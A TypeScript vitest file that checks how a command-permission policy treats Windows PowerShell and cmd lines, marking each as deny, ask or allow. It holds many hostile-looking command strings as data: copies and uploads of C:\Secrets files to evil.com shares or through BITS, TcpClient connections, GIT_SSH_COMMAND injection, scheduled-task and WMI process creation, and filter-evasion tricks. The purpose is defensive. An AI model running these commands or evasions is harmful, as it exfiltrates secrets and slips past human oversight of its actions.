// PowerShell lines on Windows that reached a denied command, file or host unseen (a review's
// findings): each row was allowed under `Shell(*)` before its fix.
import { describe, it } from 'vitest';
import { expectDecision } from './helpers/policy.js';
import { WINDOWS_RULES as rules, WIN, windowsTable as table } from './helpers/windows.js';
import type { DecisionKind } from '../src/policy/types.js';

describe('pwsh and powershell.exe switches, as pwsh reads them', () => {
  table([
    ['pwsh -o text -c "Remove-Item x"', 'deny'],
    ['pwsh -of text -c "Remove-Item x"', 'deny'],
    ['pwsh -if text -c "Remove-Item x"', 'deny'],
    ['pwsh -w Normal -c "Remove-Item x"', 'deny'],
    ['pwsh -ConfigurationFile a.pssc -c "Remove-Item x"', 'deny'],
    ['powershell -o text -c "gc C:\\Secrets\\a"', 'deny'],
    ['pwsh -ea x -c "git status"', 'ask'],
    ['pwsh -zz x -c "git status"', 'ask'],
    ['pwsh -NoP -NonI -W Hidden -Exec Bypass -Command "git status"', 'allow'],
    ['pwsh --command git status', 'allow'],
    // `-Command -` and `-File -` read the commands from standard input.
    ['echo "Remove-Item x" | pwsh -c -', 'ask'],
    ['echo "Remove-Item x" | pwsh -File -', 'ask'],
    ['echo "rm x" | powershell -Command -', 'ask'],
  ]);
});

describe('PowerShell white space: NEXT LINE, no-break space and the Unicode separators', () => {
  table([
    ['ri\u0085x', 'deny'],
    ['Remove-Item\u0085x', 'deny'],
    ['gc\u0085C:\\Secrets\\a', 'deny'],
    ['echo\u0085x;\u0085ri\u0085x', 'deny'],
    ['ri\u2028x', 'deny'],
    ['ri\u00A0x', 'deny'],
    ['git\u0085status', 'allow'],
  ]);
});

describe('a name PowerShell finds only with Get- before it', () => {
  table([
    ['Content C:\\Secrets\\a', 'deny'],
    ['content -Path C:\\Secrets\\a', 'deny'],
    ['FileHash C:\\Secrets\\a', 'deny'],
    ['Content a.txt', 'allow'],
  ]);
  it.each([['Content x', 'deny'], ['CONTENT x', 'deny'], ['date', 'allow']] as [string, DecisionKind][])('Shell(Get-Content *) denied: %s: %s', (line, expected) => {
    expectDecision({ deny: ['Shell(Get-Content *)'], allow: ['Shell(*)'] }, 'pwsh', line, expected, WIN);
  });
});

describe('code fed through the pipeline or standard input, and Invoke-Expression -Command', () => {
  table([
    // (Session 35: the code a bare iex receives, where the line shows it, is read as iex's own: it denies.)
    ['echo "Remove-Item x" | iex', 'deny'],
    ['Write-Output "Remove-Item x" | Invoke-Expression', 'deny'],
    ['gc s.txt | iex', 'ask'],
    ['echo "rm x" | cmd', 'ask'],
    ['Get-Content x.cmd | cmd.exe', 'ask'],
    ['iex -Command "Remove-Item x"', 'deny'],
    ['Invoke-Expression -Command:"Remove-Item x"', 'deny'],
    ['echo "Remove-Item x" | iex -Verbose', 'ask'],
    ['iex -Verbose "Remove-Item x"', 'deny'],
    ['iex "git status"', 'allow'],
    ['iex -c "git status"', 'allow'],
  ]);
});

describe('variables set through the Env: and Variable: drives and Set-Variable, as by assignment', () => {
  table([
    ['Set-Item Env:GIT_SSH_COMMAND "rm x"; git fetch', 'ask'],
    ['ni Env:GIT_SSH_COMMAND -Value "rm x"; git fetch', 'ask'],
    ['Set-Content Env:GIT_SSH_COMMAND "rm x"; git fetch', 'ask'],
    ['si Env:Path C:\\w\\repo; git status', 'ask'],
    ['Set-Item -Path:env:Path x', 'ask'],
    ['Set-Item -Path Microsoft.PowerShell.Core\\Environment::Path x', 'ask'],
    ['sv PSDefaultParameterValues (ConvertFrom-StringData "Copy-Item:Destination=C:/Windows"); Copy-Item a', 'ask'],
    ['si Variable:PSDefaultParameterValues (ConvertFrom-StringData "Copy-Item:Destination=C:/Windows"); cpi a', 'ask'],
    ['sv -Scope Global -Name PSDefaultParameterValues @{}', 'ask'],
    ['New-Variable -Name:ErrorActionPreference Stop', 'ask'],
    ['sv $n 5', 'ask'],
    ['Set-Variable -Name x -Value 5', 'allow'],
    ['sv x 5', 'allow'],
    ['New-Item x.txt -Value hi', 'allow'],
  ]);
});

describe('Windows programs and cmdlets that run a command line they are given', () => {
  table([
    ['Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "rm x"', 'deny'],
    ['iwmi -Path win32_process -Name create -ArgumentList "git status"', 'ask'],
    ['Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = "git status"}', 'ask'],
    ['wmic process call create "rm x"', 'deny'],
    ['wmic process call create "git status"', 'ask'],
    ['forfiles /c "cmd /c rm x"', 'deny'],
    ['forfiles /m *.txt /c "rm @file"', 'deny'],
    ['forfiles /c "cmd /c echo @file"', 'ask'],
    ['schtasks /create /tn x /tr "rm x" /sc once /st 00:00', 'deny'],
    ['schtasks /run /tn x', 'ask'],
    ['Register-ScheduledTask x -Action (New-ScheduledTaskAction -Execute rm -Argument x)', 'deny'],
    ['Register-ScheduledTask x -Xml (Get-Content t.xml -Raw)', 'ask'],
    ['New-ScheduledTaskAction -Execute git -Argument status', 'ask'],
    ['sc.exe create x binPath= "rm x"', 'deny'],
    ['sc.exe config x binpath= "git status"', 'ask'],
    ['New-Service -Name x -BinaryPathName "rm x"', 'deny'],
    ['runas /user:admin "rm x"', 'deny'],
    ['conhost.exe rm x', 'deny'],
    ['conhost --headless rm x', 'deny'],
    ['pcalua -a rm -c x', 'deny'],
    ['wmic os get caption', 'allow'],
    ['schtasks /query', 'allow'],
    ['sc x.txt hi', 'allow'],
  ]);
});

describe('Start-Process: named parameters bound first, the arguments joined into one command line', () => {
  table([
    ['Start-Process cmd "/c rm x"', 'deny'],
    ['saps cmd "/c git status"', 'ask'],
    ['Start-Process -FilePath "cmd" -ArgumentList "/c rm x"', 'deny'],
    ['Start-Process -ArgumentList x rm', 'deny'],
    ['Start-Process -Args x -FilePath rm', 'deny'],
    ['Start-Process -ArgumentList "/c","rm x" cmd', 'deny'],
    ['Start-Process -FilePath:rm x', 'deny'],
    ['Start-Process git "status --short"', 'allow'],
    ['Start-Process git -ArgumentList status -Wait -NoNewWindow', 'allow'],
    ['Start-Process git status -Bogus', 'ask'],
  ]);
});

describe('methods called without parentheses: ForEach-Object NAME and New-Object', () => {
  table([
    ['gi C:\\Windows\\x | % Delete', 'ask'],
    ['gi C:\\Windows\\x | ForEach-Object -MemberName Delete', 'ask'],
    ['gi C:\\Windows\\x | % -m Delete', 'ask'],
    ['gi C:\\w\\repo\\a | % MoveTo C:\\Windows\\x', 'ask'],
    ['gi C:\\Secrets\\a | % OpenText | % ReadToEnd', 'ask'],
    ['New-Object IO.StreamReader C:\\Secrets\\a | % ReadToEnd', 'ask'],
    ['New-Object -ComObject WScript.Shell | % Run "rm x"', 'ask'],
    ['New-Object -ComObject Shell.Application | % ShellExecute rm x', 'ask'],
    ['New-Object System.Net.Sockets.TcpClient evil.com,80', 'ask'],
    ['New-Object -TypeName IO.FileInfo C:\\Windows\\x', 'ask'],
    ['New-Object IO.FileInfo -ArgumentList C:\\Windows\\x', 'ask'],
    ['gci | % Name', 'allow'],
    ['gci | ForEach-Object -MemberName FullName', 'allow'],
    ['New-Object System.Collections.ArrayList', 'allow'],
    ['New-Object -TypeName PSObject', 'allow'],
  ]);
});

describe('code the line does not show: the history, and jobs run from a script file', () => {
  table([
    ['Import-Csv h.csv | Add-History; Invoke-History', 'ask'],
    ['r', 'ask'],
    ['r 1', 'ask'],
    ['ihy -Id 3', 'ask'],
    ['Start-Job -FilePath C:\\Secrets\\x.ps1', 'deny'],
    ['Invoke-Command -FilePath C:\\Secrets\\x.ps1 -ComputerName localhost', 'deny'],
    ['Start-Job -FilePath .\\x.ps1', 'allow'],
  ]);
});

describe('file cmdlets bound as PowerShell binds them: value parameters, named -Path, paths from the pipeline', () => {
  table([
    ['gci C:\\Secrets | gc -Tail 5', 'ask'],
    ['gci C:\\Secrets | gc -Head 5', 'ask'],
    ['gci C:\\Secrets | gc -Encoding utf8', 'ask'],
    ['gci C:\\Secrets | gc -ReadC 0', 'ask'],
    ['gci C:\\Windows | Set-Content -Value x', 'ask'],
    ['gci C:\\Windows | ac -Encoding utf8 -Value x', 'ask'],
    ['gci C:\\Windows | Rename-Item -NewName x', 'ask'],
    ['gci C:\\Secrets | Get-FileHash -Algorithm MD5', 'ask'],
    ['gci C:\\Secrets | Format-Hex -Count 100', 'ask'],
    ['gci C:\\Secrets | Import-Csv -Delimiter ";"', 'ask'],
    ['gci C:\\Secrets | sls .', 'ask'],
    ['gci C:\\Secrets | Select-String -Pattern .', 'ask'],
    ['gci C:\\Secrets | Select-Xml -XPath /', 'ask'],
    ['gci C:\\Windows | Unblock-File', 'ask'],
    ['gci C:\\Secrets | Get-AuthenticodeSignature', 'ask'],
    // A parameter the analysis does not know may take a path: never allowed.
    ['gc -Bogus 5 a.txt', 'ask'],
    // A positional word after a named -Path is the destination.
    ['Copy-Item C:\\Windows\\x -Path C:\\w\\repo\\a', 'deny'],
    ['cpi C:\\Windows\\x -LiteralPath a', 'deny'],
    ['Expand-Archive C:\\Windows -Path a.zip', 'deny'],
    ['gc -Tail 5 a.txt', 'allow'],
    ['gc a.txt -Tail 5 -Encoding utf8', 'allow'],
    ['sls x a.txt', 'allow'],
    ['Select-String -Pattern x -Path:C:\\Secrets\\a', 'deny'],
    ['Set-Content a.txt C:\\Windows\\x', 'allow'],
    ['Copy-Item a b -Recurse -Force -ErrorAction SilentlyContinue', 'allow'],
    ['Export-Csv x.csv -NoTypeInformation', 'allow'],
    ['gci | Tee-Object -Variable v', 'allow'],
    ['Compress-Archive -Path src -DestinationPath a.zip -Force', 'allow'],
    ['New-Item -ItemType SymbolicLink -Path x -Target C:\\Windows', 'deny'],
  ]);
});

describe('hosts the network cmdlets and Windows tools reach, and the server of a UNC path', () => {
  table([
    ['Test-Connection evil.com', 'deny'],
    ['Test-Connection -TargetName:evil.com -Count 2', 'deny'],
    ['Test-NetConnection evil.com', 'deny'],
    ['tnc evil.com -Port 443', 'deny'],
    ['tracert evil.com', 'deny'],
    ['pathping -n evil.com', 'deny'],
    ['Invoke-Command -ComputerName evil.com -ScriptBlock {hostname}', 'deny'],
    ['icm -cn evil.com {hostname}', 'deny'],
    ['Invoke-Command -ConnectionUri http://evil.com:5985/wsman {hostname}', 'deny'],
    ['Enter-PSSession evil.com', 'deny'],
    ['etsn evil.com', 'deny'],
    ['New-PSSession -ComputerName evil.com', 'deny'],
    ['nsn evil.com', 'deny'],
    ['Test-WSMan evil.com', 'deny'],
    ['Get-CimInstance Win32_OS -ComputerName evil.com', 'deny'],
    ['gcim Win32_OS -cn evil.com', 'deny'],
    ['Get-WmiObject Win32_OS -ComputerName evil.com', 'deny'],
    ['Get-Service -ComputerName evil.com', 'deny'],
    ['Send-MailMessage -SmtpServer evil.com -To a@b.c -From a@b.c -Subject x', 'deny'],
    ['Resolve-DnsName x -Server evil.com', 'deny'],
    // -CimSession takes a computer name; Add-/Remove-Computer contact the domain (hunt 9, F6: were allowed).
    ['Get-NetAdapter -CimSession evil.com', 'deny'], ['Get-Disk -CimSession:evil.com', 'deny'], ['Get-ScheduledTask -CimS evil.com', 'deny'],
    ['Get-CimInstance Win32_OS -CimSession evil.com', 'deny'], ['Get-Disk -CimSession $s', 'ask'], ['Get-NetAdapter -CimSession server1', 'allow'],
    ['Add-Computer -DomainName evil.com', 'deny'], ['Remove-Computer -DN evil.com', 'deny'], ['Add-Computer -DomainName corp.example', 'allow'],
    ['mstsc /v:evil.com', 'deny'],
    ['mstsc /v:evil.com:3389', 'deny'],
    ['Test-Connection $h', 'ask'],
    ['gc \\\\evil.com\\share\\a', 'deny'],
    ['Get-Content //evil.com/share/a', 'deny'],
    ['Copy-Item C:\\w\\repo\\a -Destination \\\\evil.com\\share\\a', 'deny'],
    ['echo x > \\\\evil.com\\s\\a', 'deny'],
    ['gc \\\\evil.com@SSL@443\\DavWWWRoot\\a', 'deny'],
    ['gc \\\\localhost\\C$\\w\\a', 'allow'],
    ['gc \\\\ok.example\\share\\a', 'allow'],
    ['Test-Connection ok.example -Count 2', 'allow'],
    ['icm {hostname}', 'allow'],
    ['Get-CimInstance Win32_OS', 'allow'],
    ['Compress-Archive -Path a -DestinationPath b.zip -CompressionLevel Optimal', 'allow'],
    // A listing or a test of a UNC path opens an SMB session to its server, in every spelling Windows
    // reads (were allowed): either slash, the device forms, `-Param:`, an expression, a provider prefix.
    ['Get-ChildItem //evil.com/s', 'deny'], ['Test-Path //evil.com/s', 'deny'], ['Set-Location //evil.com/s', 'deny'], ['gci /\\evil.com/s', 'deny'],
    ['Get-ChildItem \\\\?\\UNC\\evil.com\\s', 'deny'], ['Test-Path \\\\.\\UNC\\evil.com\\s', 'deny'], ['Get-ChildItem -Path:\\\\evil.com\\s', 'deny'],
    ['Test-Path -LiteralPath:\\\\evil.com\\s', 'deny'], ['gci ("\\\\evil.com\\s")', 'deny'], ['gci @("\\\\evil.com\\s")', 'deny'],
    ['Get-ChildItem FileSystem::\\\\evil.com\\s', 'deny'], ['Test-Path Microsoft.PowerShell.Core\\FileSystem::\\\\evil.com\\s', 'deny'],
    ['gci "\\\\$h\\s"', 'ask'], ['Test-Path \\\\?\\C:\\w\\repo\\a', 'allow'], ['Get-ChildItem //localhost/c$/w', 'allow'], ['Get-ChildItem -Path:C:\\w\\repo', 'allow'],
    // A name lookup reaches the name's nameserver (was allowed).
    ['Resolve-DnsName evil.com', 'deny'], ['Resolve-DnsName -Name evil.com -Type MX', 'deny'], ['Resolve-DnsName ok.example', 'allow'],
  ]);
  it.each([['read', '\\\\evil.com\\share\\a', 'deny'], ['edit', '//evil.com/share/a', 'deny']] as ['read' | 'edit', string, DecisionKind][])(
    'a %s of %s: %s', (kind, path, expected) => {
      expectDecision({ deny: ['Domain(evil.com)'], allow: ['Read(**)', 'Edit(**)'] }, kind, path, expected, WIN);
    });
});

describe('a name with an extension is a program, never an alias; servers Windows tools are given', () => {
  table([
    // (sc.exe is a program, not Set-Content; a word of a program no table knows that looks like a
    // path may be a file it opens: a denied one asks, as `sc.exe create s binPath= C:\Windows\x` should.)
    ['sc.exe C:\\Windows\\x hi', 'ask'],
    ['sc C:\\Windows\\x hi', 'deny'],
    ['curl.exe evil.com', 'deny'],
    ['ri.cmd x', 'deny'],
    ['sc.exe \\\\evil.com query', 'deny'],
    ['reg query \\\\evil.com\\HKLM\\x', 'deny'],
    ['net view \\\\evil.com', 'deny'],
    ['schtasks /query /s evil.com', 'deny'],
    ['wmic /node:evil.com os get caption', 'deny'],
    ['sc.exe query x', 'allow'],
    // A native program no table knows: its path-like words may be files it opens (possible parts).
    ['notepad C:\\Secrets\\x', 'ask'], ['notepad.exe C:/Secrets/x', 'ask'], ['mytool --out=C:\\Windows\\x', 'ask'], ['notepad a.txt', 'allow'],
    // (A switch's value, a root-relative or relative `\` path, a value after `:`, a program named with a `-`: hunt 7, F1.)
    // (csc is read now, its /out: an Edit part: dotnet-compilers.ts.)
    ['csc /out:C:\\Windows\\x.exe a.cs', 'deny'], ['notepad \\Windows\\x', 'ask'], ['cd C:\\; notepad Windows\\x', 'ask'],
    ['notepad -o:C:\\Windows\\x', 'ask'], ['my-tool C:\\Windows\\x', 'ask'],
    // (A cross compiler is read as gcc: its -o is an Edit.)
    ['x86_64-w64-mingw32-gcc -o C:\\Windows\\x a.c', 'deny'],
    ['reg query HKLM\\Software\\x', 'allow'], ['robocopy a b /XD:x', 'allow'], ['Get-Content a.txt', 'allow'], ['my-tool a.txt -v', 'allow'],
    ['msbuild /p:Configuration=Release', 'allow'], ['ipconfig /all', 'allow'], ['dotnet test .\\tests\\a.csproj', 'allow'],
    ['schtasks /query', 'allow'],
    // A native name with a `-` no cmdlet resolves is read by its program's tables (hunt 9, F3: was allowed, then asked).
    ['gcc-12 -o C:\\Windows\\x a.c', 'deny'], ['cpp-12 C:\\Secrets\\x.h', 'deny'], ['g++-12 -wrapper rm,y x.c', 'deny'],
    ['gcc-12 -O2 -o a a.c', 'allow'], ['clang-format -i a.c', 'allow'],
  ]);
});

describe('robocopy SRC DST [FILE…] and Windows expand SRC DST: their own grammars (n2 F11, F12)', () => {
  table([
    // robocopy: the source tree read, the destination tree written, file names below both (was read as cp: allowed).
    ['robocopy C:\\w C:\\Windows x', 'deny'], ['robocopy C:\\w C:\\Windows\\System32 x.dll', 'deny'],
    ['robocopy C:\\w C:\\Windows *.dll /S', 'deny'], ['robocopy C:\\Secrets C:\\w\\repo x', 'deny'],
    ['robocopy a b /XF C:\\Windows\\x /LOG:C:\\Windows\\x.log', 'deny'], ['robocopy a b /UNILOG+:C:\\Windows\\x.log', 'deny'],
    ['robocopy a b /JOB:j.rcj', 'ask'], ['robocopy a $D x', 'ask'],
    ['robocopy a b x.txt /S', 'allow'], ['robocopy a b /XD c d /MIR', 'allow'], ['robocopy a b /XF *.tmp', 'allow'],
    // expand on Windows is expand.exe: SRC DEST writes DEST (was read as coreutils expand: allowed).
    ['expand a C:\\Windows\\x', 'deny'], ['expand -r a C:\\Windows', 'deny'], ['expand.exe a.cab -F:* C:\\Windows', 'deny'],
    ['expand a C:\\w\\x:ads', 'allow'], ['expand a C:\\Windows\\x:ads', 'deny'], ['expand C:\\Secrets\\x b', 'deny'],
    ['expand -r a.dl_', 'ask'], ['expand a b', 'allow'], ['expand -D a.cab', 'allow'],
  ]);
  // (Git Bash: `expand` is coreutils' filter, `expand.exe` may be Windows'.)
  it.each([
    ['expand.exe a C:/Windows/x', 'deny'], ['expand a C:/Secrets/x', 'deny'], ['expand -t 4 a.txt', 'allow'],
    ['robocopy C:/w C:/Windows x.dll', 'deny'], ['robocopy a b x.txt', 'allow'],
  ] as [string, DecisionKind][])('bash: %s: %s', (line, expected) => {
    expectDecision(rules, 'shell', line, expected, WIN);
  });
});

describe('attribute, ACL and metadata writers are edits of their files', () => {
  table([
    ['Set-ItemProperty C:\\Windows\\a -Name IsReadOnly -Value $true', 'deny'],
    ['sp C:\\Windows\\a Attributes Hidden', 'deny'],
    ['Set-ItemProperty C:\\Windows\\a -Name LastWriteTime -Value 2020-01-01', 'deny'],
    ['clp C:\\Windows\\a -Name Attributes', 'deny'],
    ['Set-Acl C:\\Windows\\a $acl', 'deny'],
    ['gi C:\\Windows\\a | Set-ItemProperty -Name IsReadOnly -Value $true', 'ask'],
    ['icacls C:\\Windows\\a /grant Everyone:F', 'deny'],
    ['icacls.exe C:\\Windows /reset /t', 'deny'],
    ['attrib +h C:\\Windows\\a', 'deny'],
    ['takeown /f C:\\Windows\\a', 'deny'],
    ['Unblock-File C:\\Windows\\a', 'deny'],
    ['cipher /e C:\\Windows\\a', 'deny'],
    ['compact /c C:\\Windows\\a', 'deny'],
    ['fsutil file setzerodata offset=0 length=100 C:\\Windows\\a', 'deny'],
    ['icacls C:\\w\\repo\\a /grant Everyone:F', 'allow'],
    ['attrib C:\\Windows\\a', 'allow'],
    ['sp HKCU:\\Software\\x -Name y -Value z', 'allow'],
    ['fsutil fsinfo drives', 'allow'],
  ]);
});

describe('file parameters of New-Item -Name, Send-MailMessage, Start-BitsTransfer, Get-WinEvent, Import-LocalizedData', () => {
  table([
    ['New-Item -Path C:\\ -Name Windows\\a', 'deny'],
    ['New-Item C:\\ -Name Windows\\a -Value x', 'deny'],
    ['ni C:\\Users -Name ..\\Windows\\a', 'deny'],
    ['Send-MailMessage -Attachments C:\\Secrets\\a -SmtpServer ok.example -To a@b.c -From a@b.c -Subject x', 'deny'],
    ['gci C:\\Secrets | Send-MailMessage -To a@b.c -From a@b.c -Subject x -SmtpServer ok.example', 'ask'],
    ['Start-BitsTransfer -TransferType Upload -Source C:\\Secrets\\a -Destination https://ok.example/x', 'deny'],
    ['Start-BitsTransfer -Source https://ok.example/x -Destination C:\\Windows\\x', 'deny'],
    ['Start-BitsTransfer https://ok.example/x C:\\Windows\\x', 'deny'],
    ['Start-BitsTransfer https://evil.com/x a.txt', 'deny'],
    ['Start-BitsTransfer https://ok.example/x a.txt -NotifyCmdLine git,status', 'ask'],
    ['Get-WinEvent -Path C:\\Secrets\\a.evtx', 'deny'],
    ['Import-LocalizedData -BaseDirectory C:\\Secrets -FileName a', 'deny'],
    ['New-Item -Path C:\\w\\repo -Name a.txt -ItemType File', 'allow'],
    ['Start-BitsTransfer https://ok.example/x a.txt', 'allow'],
    ['Get-WinEvent -LogName System -MaxEvents 10', 'allow'],
    ['Import-LocalizedData -BindingVariable t', 'allow'],
  ]);
});

describe('a native runner spelled with its extension or in other case is the runner (review 2026-11-26: npm.cmd never allowed)', () => {
  table([
    ['npm.cmd install', 'allow'], ['npx.cmd tsc', 'allow'], ['NPM install', 'allow'], ['timeout.exe 5 npm test', 'allow'],
    ['npm.cmd exec rm x', 'deny'],
  ]);
  it('an allow rule for the runner covers its .cmd spelling', () => {
    expectDecision({ deny: [], allow: ['Shell(npm install *)'] }, 'pwsh', 'npm.cmd install', 'allow', WIN);
    expectDecision({ deny: [], allow: ['Shell(npm install *)'] }, 'pwsh', '& "npm.cmd" install', 'ask', WIN);
  });
});

describe('a statement that is only an expression runs nothing; safe $env: variables (review 2026-11-26, precision)', () => {
  table([
    ['"hello" | Set-Content out.txt', 'allow'], ["'x' | Write-Output", 'allow'], ['Get-ChildItem | Where-Object { $_.Length -gt 1MB }', 'allow'],
    ['gci | ? { $_.Name -like "*.tmp" }', 'allow'], ['$x = 1; git status', 'allow'], ['$n = "a$b"; $n -eq 1..10; git status', 'allow'],
    ['$json = Get-Content config.json | ConvertFrom-Json; $json.port', 'allow'], ['$env:PATH; git status', 'allow'],
    ['$env:NODE_ENV = "test"; npm test', 'allow'], ['$Env:ci = 1; npm test', 'allow'],
    // Still read: what it pipes to, redirects, sub-expressions, assignments that change later commands.
    ['"C:\\Secrets\\a" | Get-Content', 'ask'], ['"x" > C:\\Windows\\a', 'deny'], ['"$(Remove-Item x)"', 'deny'],
    ['$x = Get-Content C:\\Secrets\\a', 'deny'], ['"${C:\\Secrets\\a}"; git status', 'ask'], ['$C:x; git status', 'ask'],
    ['$x.Invoke; $x.Invoke(); git status', 'ask'], ['[IO.File]::ReadAllText("a"); git status', 'ask'], ['(1); git status', 'ask'],
    ['$x = "a" -as [scriptblock]; git status', 'ask'], ['$f.IsReadOnly = $false; git status', 'ask'], ['[int]$x = 5; git status', 'ask'],
    ['$PSNativeCommandArgumentPassing = "Legacy"; git status', 'ask'], ['$PSEmailServer = "evil.com"; git status', 'ask'],
    ['$PSDefaultParameterValues = @{}; git status', 'ask'], ['$global:x = 1; git status', 'ask'],
    // (A local or private scope names the same preference variable; found in the second PowerShell review.)
    ['$local:PSEmailServer = "evil.com"; git status', 'ask'], ['$PRIVATE:PSNativeCommandArgumentPassing = "Legacy"; git status', 'ask'],
    ['${local:PSDefaultParameterValues} = @{}; git status', 'ask'], ['$local:x = 1; git status', 'allow'],
    ['$env:PATH = "C:\\x"; npm test', 'ask'], ['$env:NODE_OPTIONS = "--require x"; npm test', 'ask'], ['$env:GIT_SSH_COMMAND = "rm x"; git fetch', 'ask'],
    ['$env:CI = 1; npm exec rm x', 'deny'],
    // Alone, an expression is the line's command, which Shell(*) allows (precision review P4).
    ['$x = 1', 'allow'], ['$env:PATH', 'allow'], ['$PSVersionTable', 'allow'], ['$PSVersionTable.PSVersion', 'allow'],
    ['$ErrorActionPreference = "Stop"', 'allow'], ["$ErrorActionPreference = 'SilentlyContinue'; npm test", 'allow'],
    ["$ErrorActionPreference = 'Inquire'", 'ask'], ['$ErrorActionPreference = $x', 'ask'], ['$ErrorActionPreference = "Stop" + $x', 'ask'],
    // A grouped pipeline with a property read runs the pipeline alone.
    ['(Get-Content package.json | ConvertFrom-Json).version', 'allow'], ['$v = (Get-Content package.json | ConvertFrom-Json).version', 'allow'],
    ['$(Get-Content a.txt).Length', 'allow'], ['(Get-Content C:\\Secrets\\a).x', 'deny'], ['(Remove-Item x).y', 'deny'],
    ['(Get-Content a.txt).Trim()', 'ask'], ['(Get-Content a.txt).x[0]', 'ask'],
    // With operators that invoke nothing after it, it runs the pipeline alone too.
    ["(Get-Content src\\a.cs) -replace 'Foo', 'Bar' | Set-Content src\\a.cs", 'allow'],
    ['(Get-ChildItem).Count -gt 3', 'allow'], ['$v = (Get-Content a.txt) -join ","', 'allow'], ['(Get-Content C:\\Secrets\\a) -replace "x", "y"', 'deny'],
    ['(Remove-Item x) -eq 1', 'deny'], ['(Get-Content a) -replace "x", $(Remove-Item y)', 'deny'], ['(Get-Content a) -replace "x", (Get-Content y)', 'ask'],
    ['(Get-Content a) -replace "x", { Get-Content y }', 'ask'], ['(Get-Content a) + $x.Invoke()', 'ask'], ['(Get-Content a) -replace "x", "y" > C:\\Secrets\\b', 'deny'],
  ]);
  it('an expression is a command for deny rules, and needs its own allow only alone', () => {
    expectDecision({ deny: ['Shell(*)'] }, 'pwsh', '$x = 1', 'deny', WIN);
    expectDecision({ allow: ['Shell(npm *)'] }, 'pwsh', '$x = 1', 'ask', WIN);
    expectDecision({ allow: ['Shell(npm *)'] }, 'pwsh', '$x = 1; npm test', 'allow', WIN);
  });
});

describe('PowerShell expands wildcards in a quoted path too (found in review 2026-11-26, precision pass)', () => {
  table([
    ['Get-Content "C:\\Secre*\\a"', 'ask'], ["cat 'C:\\Secre?s\\a'", 'ask'], ["gc 'C:\\Secre[t]s\\a'", 'ask'], ['Copy-Item "C:\\Secre*\\a" x', 'ask'],
    ['Set-Content "C:\\Win*\\x" 1', 'ask'], ['"x" > "C:\\Win*\\x"', 'ask'], ['& "C:\\Secre*\\a.exe"', 'ask'],
    ['Get-Content "src/app.ts"', 'allow'], ["Get-Content 'a b.txt'", 'allow'],
  ]);
});
